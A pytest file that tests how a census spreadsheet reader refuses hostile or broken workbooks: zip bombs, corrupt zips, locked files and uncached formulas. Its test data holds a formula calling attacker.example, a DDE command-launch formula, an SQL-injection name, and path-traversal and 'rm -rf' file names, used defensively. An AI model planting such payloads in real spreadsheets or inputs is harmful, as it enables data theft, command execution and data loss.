"""Hostile and broken files at the reader: each refused with its rule code and a message that
names the file and the reason, before calamine parses it; the harmless ones read safely."""

from __future__ import annotations

import re
import struct
import zipfile

import pyarrow as pa
import pytest
import xlwt
from hypothesis import given
from hypothesis import strategies as st

import config
from flows.workbook import process_workbook
from tests.factory import BASE_ORDER, household, write_workbook
from tests.reliability import hostile
from workbooks import guard, sheetxml
from workbooks.error_report import district_slug, report_path
from workbooks.errors import WorkbookError
from workbooks.reader import read_workbook

PROVINCE = config.load_province(config.DEFAULT_PROVINCE)


def refused(path, code: str, *words: str) -> str:
    with pytest.raises(WorkbookError) as info:
        read_workbook(path)
    message = str(info.value)
    assert getattr(info.value, "code", "WB001") == code, message
    assert message.startswith(path.name + ":"), message
    for word in words:
        assert word in message, message
    return message


def test_not_a_spreadsheet(tmp_path):
    refused(hostile.not_a_spreadsheet(tmp_path / "a.xlsx"), "WB020", "not a spreadsheet")
    refused(hostile.html_as_xls(tmp_path / "b.xls"), "WB020", "HTML")
    (tmp_path / "empty.xlsx").write_bytes(b"")
    refused(tmp_path / "empty.xlsx", "WB020", "empty")
    with zipfile.ZipFile(tmp_path / "doc.xlsx", "w") as z:
        z.writestr("word/document.xml", "<w:document/>")
    refused(tmp_path / "doc.xlsx", "WB020", "without an Excel workbook")


def test_other_spreadsheet_formats_say_how_to_save_them(tmp_path):
    """A list saved as .ods, .xlsb or CSV: refused with what to do, not "neither an .xlsx nor an
    .xls" (an .xlsb's binary sheets are not parsed: the guard cannot bound them)."""
    with zipfile.ZipFile(tmp_path / "a.ods", "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<office:document-content/>")
    refused(tmp_path / "a.ods", "WB020", "OpenDocument spreadsheet (.ods)", "save it as .xlsx")
    with zipfile.ZipFile(tmp_path / "b.xlsb", "w") as z:
        z.writestr("xl/workbook.bin", b"\x83\x01\x00")
        z.writestr("xl/worksheets/sheet1.bin", b"\x81\x01\x00")
    refused(tmp_path / "b.xlsb", "WB020", ".xlsb", "save it as .xlsx")
    (tmp_path / "c.csv").write_text("Mã hộ;Họ và tên chủ hộ\nMN-1;Lò Văn A\n", "utf-8")
    refused(tmp_path / "c.csv", "WB020", "text (CSV)", "save it as .xlsx")
    (tmp_path / "d.csv").write_bytes("Mã hộ\tHọ và tên\r\n".encode("utf-16"))
    refused(tmp_path / "d.csv", "WB020", "text (CSV)")
    (tmp_path / "e.xlsx").write_bytes(bytes(range(256)) * 4)  # no text: as before
    refused(tmp_path / "e.xlsx", "WB020", "neither an .xlsx (zip) nor an .xls")


def test_zip_damage_zipfile_itself_raises_on_is_refused(tmp_path):
    """Found by fuzzing (600 examples): a central directory asking for "zip file version 8.4"
    raised NotImplementedError, and a part whose local header names another file raised
    BadZipFile when it was read again; both escaped the guard as crashes."""
    good = write_workbook(tmp_path / "good.xlsx", [household(1)]).read_bytes()
    version = bytearray(good)
    central = version.find(b"PK\x01\x02")
    version[central + 6 : central + 8] = (84).to_bytes(2, "little")
    (tmp_path / "version.xlsx").write_bytes(bytes(version))
    refused(tmp_path / "version.xlsx", "WB021", "zip file version")
    renamed = bytearray(good)
    at = renamed.find(b"xl/workbook.xml")  # its local header (the directory comes last)
    assert at < central
    renamed[at : at + 2] = b"XL"  # the directory still says xl/
    (tmp_path / "renamed.xlsx").write_bytes(bytes(renamed))
    refused(tmp_path / "renamed.xlsx", "WB021", "a part cannot be read")
    # Found by fuzzing (800 random examples): the directory's name of the workbook part
    # damaged, its other parts intact: workbook_sheets got None and raised TypeError.
    unnamed = bytearray(good)
    at = unnamed.find(b"xl/workbook.xml", central)
    unnamed[at : at + 2] = b"XL"
    (tmp_path / "unnamed.xlsx").write_bytes(bytes(unnamed))
    refused(tmp_path / "unnamed.xlsx", "WB021", "xl/workbook.xml")


def test_truncated_and_corrupt(tmp_path):
    refused(hostile.truncated(tmp_path / "cut.xlsx", tmp_path), "WB021", "truncated")
    refused(hostile.corrupt(tmp_path / "bad.xlsx", tmp_path), "WB021", "corrupt")


def test_damaged_directory_offsets(tmp_path):
    """Found by fuzzing: a central directory that places a part before the file's start made
    the guard's seek raise OSError instead of WorkbookError."""
    data = bytearray(hostile.valid_bytes(tmp_path))
    end = data.rfind(b"PK\x05\x06")  # end of central directory; its offset field at +16
    offset = struct.unpack_from("<I", data, end + 16)[0]
    struct.pack_into("<I", data, end + 16, offset + 1)
    (tmp_path / "shifted.xlsx").write_bytes(bytes(data))
    refused(tmp_path / "shifted.xlsx", "WB021", "corrupt")


def test_zip_bomb_is_refused_before_it_inflates(tmp_path):
    bomb = hostile.zip_bomb(tmp_path / "bomb.xlsx", tmp_path, megabytes=64)
    assert bomb.stat().st_size < 1 << 20  # a small file on disk
    refused(bomb, "WB022", "zip bomb", "xl/worksheets/sheet1.xml")
    # Declared sizes that lie (inflated size stated as the compressed size) are caught by
    # counting the bytes actually inflated.
    liar = hostile.zip_bomb(tmp_path / "liar.xlsx", tmp_path, megabytes=64, lie=True)
    info = zipfile.ZipFile(liar).getinfo("xl/worksheets/sheet1.xml")
    assert info.file_size == info.compress_size
    refused(liar, "WB022", "zip bomb")


def test_oversized_part_by_declared_size(tmp_path, monkeypatch):
    path = write_workbook(tmp_path / "d.xlsx", [household(i) for i in range(1, 50)])
    monkeypatch.setenv("CENSUS_MAX_MEMBER_BYTES", "2000")
    refused(path, "WB022", "2,000 a part")


def test_password_protected(tmp_path):
    refused(hostile.password_protected(tmp_path / "locked.xlsx"), "WB023", "password-protected")


def test_legacy_xls_still_reads(tmp_path):
    """The compound-file check must not refuse a genuine .xls (also an OLE2 file)."""
    book = xlwt.Workbook(encoding="utf-8")
    ws = book.add_sheet("Danh sach")
    from schemas.headers import BASE_LABELS

    for c, key in enumerate(BASE_ORDER):
        ws.write(0, c, BASE_LABELS[key][0])
    for r in range(1, 4):
        for c, key in enumerate(BASE_ORDER):
            ws.write(r, c, household(r)[key])
    book.save(str(tmp_path / "old.xls"))
    assert (tmp_path / "old.xls").read_bytes()[:8] == guard.CFB_SIGNATURE
    assert len(read_workbook(tmp_path / "old.xls").rows) == 3


def test_renamed_files_get_a_clear_message(tmp_path):
    book = xlwt.Workbook()
    book.add_sheet("a").write(0, 0, "x")
    book.save(str(tmp_path / "old.xlsx"))
    refused(tmp_path / "old.xlsx", "WB020", ".xls (Excel 97-2003)", "rename it .xls")
    path = write_workbook(tmp_path / "new.xls", [household(1)])
    refused(path, "WB020", "rename it .xlsx")


def test_row_limit(tmp_path, monkeypatch):
    path = write_workbook(tmp_path / "many.xlsx", [household(i) for i in range(1, 301)])
    assert len(read_workbook(path).rows) == 300  # under the default limit: loads
    monkeypatch.setenv("CENSUS_MAX_ROWS", "250")
    refused(path, "WB024", "too many rows", "250")


def test_row_count_matches_the_sheet(tmp_path):
    """The row counter sees every <row> even across inflate chunks (a big sheet)."""
    rows = [household(i, note="x" * 300) for i in range(1, 5001)]
    path = write_workbook(tmp_path / "big.xlsx", rows, title_rows=False, totals_row=False)
    with zipfile.ZipFile(path) as z, path.open("rb") as fh:
        member = z.getinfo("xl/worksheets/sheet1.xml")
        assert member.file_size > 2 * guard._CHUNK
        scan = sheetxml.SheetScan(guard.Limits().max_cell_chars * 6)
        guard._inflate(path, fh, member, guard.Limits(), scan, 1 << 30)
    facts = scan.finish()
    assert facts.rows == 5001  # header + households
    # The extent is seen across chunks too: columns A to the last, rows of four digits.
    assert (facts.min_col, facts.row_digits) == (1, 4)
    assert facts.max_col == len(BASE_ORDER) + len(config.standard_for_year(2019).indicators) + 1


def test_huge_strings(tmp_path):
    # Longer than Excel allows but small in bytes: caught on the cells as read.
    # (Excel libraries refuse to write such a cell, so the XML is edited.)
    path = write_workbook(tmp_path / "long.xlsx", [household(1, note="PLACEHOLDER")])
    hostile.replace_in_parts(path, b"PLACEHOLDER", b"a" * 40_000)
    refused(path, "WB025", "40,000 characters")
    # Megabytes in one cell: caught in the XML before calamine reads it.
    path = write_workbook(tmp_path / "huge.xlsx", [household(1, note="PLACEHOLDER")])
    hostile.replace_in_parts(path, b"PLACEHOLDER", b"b" * 3_000_000)
    refused(path, "WB025", "xl/worksheets/sheet1.xml")
    # Long but within Excel's limit: reads.
    path = write_workbook(tmp_path / "ok.xlsx", [household(1, note="c" * 30_000)])
    assert read_workbook(path).rows["note"].str.len().tolist() == [30_000]


def test_control_characters_are_removed_and_reported(tmp_path):
    rows = [
        household(1, head_name="Lò\x07 Văn\x00 A", commune="Sín\x1b Thầu", village="Bản\tTá"),
        household(2),
    ]
    path = hostile.xlsxwriter_workbook(tmp_path / "ctl.xlsx", rows)
    read = read_workbook(path)
    assert read.rows["head_name"].tolist() == ["Lò Văn A", "Lò Văn 2"]
    assert read.rows["commune"].tolist() == ["Sín Thầu", "Sín Thầu"]
    assert read.rows["village"].iloc[0] == "Bản\tTá"  # tab is kept
    assert [n["code"] for n in read.notices if n["code"] == "WB027"] == ["WB027"]
    load = process_workbook(path, 2019, PROVINCE)
    assert len(load.households) == 2  # the commune matches once cleaned


@given(
    st.lists(
        st.one_of(st.none(), st.text(st.characters(max_codepoint=0x2FF), max_size=6)),
        max_size=8,
    ),
    st.booleans(),
    st.integers(0, 2),
)
def test_control_character_scan_agrees_with_the_rule(cells, large, cut):
    """The byte-level scan of `cells_clean` flags a column exactly when the rule's regex
    finds a control character in one of its cells (sliced arrays included)."""
    column = pa.array(cells, pa.large_string() if large else pa.string())[cut:]
    expected = not any(c is not None and re.search(guard._CONTROL, c) for c in column.to_pylist())
    assert guard.cells_clean([column]) == expected


def test_formulas_are_read_as_cached_values_never_evaluated(tmp_path):
    rows = [household(i) for i in range(1, 5)]
    formulas = {
        (0, "household_size"): ("=2+4", 6),  # cached value: read
        (1, "household_size"): ("=2+4", None),  # no cached value: blank, never computed
        (2, "village"): ('=WEBSERVICE("http://attacker.example/x")', "Bản Tá Miếu"),
        (3, "village"): ("=cmd|' /C calc'!A0", "Bản Tá Miếu"),  # DDE: never run
    }
    path = hostile.xlsxwriter_workbook(tmp_path / "f.xlsx", rows, formulas=formulas)
    assert b"WEBSERVICE" in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    read = read_workbook(path)
    assert read.rows["household_size"].fillna("<blank>").tolist() == ["6", "<blank>", "5", "5"]
    assert read.rows["village"].tolist()[2:] == ["Bản Tá Miếu", "Bản Tá Miếu"]
    load = process_workbook(path, 2019, PROVINCE)
    assert sorted(load.households["household_id"]) == ["MN-000001", "MN-000003", "MN-000004"]
    found = load.rejections[load.rejections["household_id"] == "MN-000002"]
    # Blank, as the file holds no result: missing (HH008), and why (HH042, with the formula).
    assert found[["rule_code", "value"]].fillna("").values.tolist() == [
        ["HH008", ""],
        ["HH042", "=2+4"],
    ]


def test_a_formula_without_its_result_rejects_its_row_never_a_silent_blank(tmp_path):
    """A program that leaves the computing to Excel writes `<f>` without `<v>`: calamine
    reads a blank. In an indicator or a flag that blank meant "not deprived" or "no" unseen;
    each such cell of a data row is now HH042 with its formula, the row rejected."""
    rows = [household(i, meritorious="x" if i == 3 else None) for i in range(1, 6)]
    indicator = config.standard_for_year(2019).indicators[0].key
    formulas = {
        (0, indicator): ('=IF(1=1,"x","")', "x"),  # Excel saved its result: read
        (1, indicator): ('=IF(1=1,"x","")', None),
        (2, "meritorious"): ('=IF(1=1,"x","")', None),
        (3, "household_size"): ("=2+4", None),
    }
    path = hostile.xlsxwriter_workbook(tmp_path / "f.xlsx", rows, formulas=formulas)
    load = process_workbook(path, 2019, PROVINCE)
    assert sorted(load.households["household_id"]) == ["MN-000001", "MN-000005"]
    found = load.rejections[load.rejections["rule_code"] == "HH042"]
    assert found[["household_id", "column_key", "value"]].values.tolist() == [
        ["MN-000002", indicator, '=IF(1=1,"x","")'],
        ["MN-000003", "meritorious", '=IF(1=1,"x","")'],
        ["MN-000004", "household_size", "=2+4"],
    ]
    assert found["rule"].str.startswith("Ô có công thức nhưng tệp không lưu kết quả").all()


def test_a_formula_saved_with_an_empty_result_is_one_without(tmp_path):
    """openpyxl (and programs like it) save a formula they did not compute as
    `<f>3164000/4</f><v />`: calamine read a blank income, and a household with nothing
    marked was loaded as not reviewed, neither poor nor near-poor, without a word (a helper's
    probe: 13 of 30 such rows). The empty result is no result: HH042, the row rejected."""
    rows = [household(i) for i in range(1, 5)]
    rows[1]["income_per_capita"] = "=3400000/4"  # openpyxl writes the formula, no result
    path = write_workbook(tmp_path / "o.xlsx", rows)
    assert b"<v />" in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    load = process_workbook(path, 2019, PROVINCE)
    assert sorted(load.households["household_id"]) == ["MN-000001", "MN-000003", "MN-000004"]
    [found] = load.rejections.loc[load.rejections["rule_code"] == "HH042", "value"].tolist()
    assert found == "=3400000/4"


@pytest.mark.parametrize("prefix", ["", "x:"])
def test_formulas_without_a_result_are_counted_across_chunks(prefix):
    """The scan's count decides which sheets are searched: it must see a formula and the
    `</c>` after it in different chunks, with a namespace prefix, and a shared formula."""
    p = prefix
    cells = [
        f'<{p}c r="A{r}"><{p}f>B{r}*2</{p}f><{p}v>4</{p}v></{p}c>'  # cached: not counted
        f'<{p}c r="B{r}" t="str"><{p}f>C{r}+1</{p}f></{p}c>'  # no result
        f'<{p}c r="C{r}"><{p}f t="shared" si="0"/></{p}c>'  # no result, shared
        f'<{p}c r="D{r}"><{p}v>7</{p}v></{p}c>'
        f'<{p}c r="E{r}"><{p}f>D{r}/4</{p}f><{p}v /></{p}c>'  # an empty result: none
        f'<{p}c r="F{r}" t="str"><{p}f>""</{p}f><{p}v></{p}v></{p}c>'  # the empty text
        for r in range(1, 40)
    ]
    xml = (
        f'<?xml version="1.0"?><{p}worksheet xmlns{":x" if p else ""}="urn:x"><{p}sheetData>'
        + "".join(f'<{p}row r="{r}">{c}</{p}row>' for r, c in enumerate(cells, 1))
        + f"</{p}sheetData></{p}worksheet>"
    ).encode()
    found = sheetxml.uncached_formulas(xml)
    assert found[:3] == [("B1", "C1+1"), ("C1", ""), ("E1", "D1/4")] and len(found) == 117
    for size in (7, 61, 500, len(xml)):
        scan = sheetxml.SheetScan(1 << 20)
        for at in range(0, len(xml), size):
            scan.feed(xml[at : at + size])
        # An upper bound (the empty text's `<v></v>` may count), never below the cells found.
        assert 117 <= scan.finish().uncached_formulas <= 156, size


def test_external_links_are_reported_never_followed(tmp_path):
    path = hostile.with_external_link(tmp_path / "link.xlsx", tmp_path, [household(1)])
    read = read_workbook(path)
    assert len(read.rows) == 1
    [notice] = [n for n in read.notices if n["code"] == "WB026"]
    assert "never followed" in notice["detail"]


def test_sql_looking_text_is_data(tmp_path):
    rows = [
        household(1, commune=hostile.SQL_TEXT),
        household(2, head_name="Robert'); DROP TABLE private.households;--"),
    ]
    load = process_workbook(write_workbook(tmp_path / "sql.xlsx", rows), 2019, PROVINCE)
    assert load.households["household_id"].tolist() == ["MN-000002"]
    rejected = load.rejections[load.rejections["household_id"] == "MN-000001"]
    assert rejected["rule_code"].tolist() == ["HH021"]
    assert rejected["value"].tolist() == [hostile.SQL_TEXT]


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "..\\..\\Windows\\System32",
        "/absolute/path",
        "C:\\Users\\x",
        "a\x00b",
        "..",
        "",
        "Mường Nhé/../../..",
        "~root",
        "$(rm -rf ~)",
    ],
)
def test_report_paths_never_leave_the_reports_folder(tmp_path, name):
    slug = district_slug(name)
    assert slug and all(c.isascii() and (c.isalnum() or c == "-") for c in slug), slug
    reports = tmp_path / "reports"
    for path in (report_path(reports, 2019, name), report_path(reports, 2019, "Mường Nhé", name)):
        assert path.resolve().parent == (reports / "2019").resolve()
        assert path.name.endswith("-loi.xlsx")
